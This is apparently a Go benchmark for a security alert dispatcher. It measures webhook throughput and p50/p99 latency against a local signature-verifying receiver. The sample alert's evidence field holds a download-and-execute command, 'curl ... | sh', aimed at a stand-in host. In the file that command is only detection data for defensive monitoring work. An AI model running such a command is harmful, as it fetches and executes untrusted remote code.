package alert

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"sync"
	"testing"
	"time"
)

// BenchmarkDispatchWebhook measures alerts per second through a
// dispatcher to a local webhook receiver that verifies each signature, and
// the p50/p99 latency from Dispatch to receipt: with one alert in flight
// (an idle sink: the pipeline's own latency) and with 64 (a storm the
// rate limit lets through; latency then includes queueing).
func BenchmarkDispatchWebhook(b *testing.B) {
	for _, n := range []int{1, 64} {
		b.Run("inflight="+strconv.Itoa(n), func(b *testing.B) { benchWebhook(b, n) })
	}
}

func benchWebhook(b *testing.B, inFlight int) {
	key := []byte("bench-key-0123456789abcdef012345")
	var last time.Time
	slots := make(chan struct{}, inFlight)
	var mu sync.Mutex
	sent := map[string]time.Time{}
	lat := make([]time.Duration, 0, b.N)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if err := VerifyWebhook(key, r.Header.Get(TimestampHeader), r.Header.Get(SignatureHeader), body, time.Now(), time.Minute); err != nil {
			b.Error(err)
		}
		var a struct{ ID string }
		json.Unmarshal(body, &a)
		now := time.Now()
		mu.Lock()
		lat = append(lat, now.Sub(sent[a.ID]))
		last = now
		delete(sent, a.ID)
		mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
		<-slots
	}))
	defer srv.Close()
	hook, err := NewWebhook("bench", srv.URL, key, srv.Client())
	if err != nil {
		b.Fatal(err)
	}
	d := NewDispatcher(Options{Routes: []Route{{Sink: hook}}, QueueSize: 2 * inFlight})
	base := Alert{Tenant: "acme", Rule: "cmd.download-exec", Severity: Critical, Title: "curl piped to sh", Technique: "T1105",
		User: "bob", Evidence: map[string]any{"cmdline": "curl -s http://x.example/i.sh | sh", "pid": 4242}}
	b.ReportAllocs()
	start := time.Now()
	for i := 0; b.Loop(); i++ {
		slots <- struct{}{}
		a := base
		a.ID = NewID()
		a.Subject = strconv.Itoa(i)
		mu.Lock()
		sent[a.ID] = time.Now()
		mu.Unlock()
		d.Dispatch(a)
	}
	if err := d.Close(b.Context()); err != nil {
		b.Fatal(err)
	}
	b.StopTimer()
	if st := d.Stats().Sinks["bench"]; st.Dropped+st.Failed > 0 {
		b.Fatalf("lost alerts: %+v", st)
	}
	mu.Lock()
	defer mu.Unlock()
	slices.Sort(lat)
	if len(lat) > 0 {
		b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
		b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
		b.ReportMetric(float64(len(lat))/last.Sub(start).Seconds(), "alerts/s")
	}
}
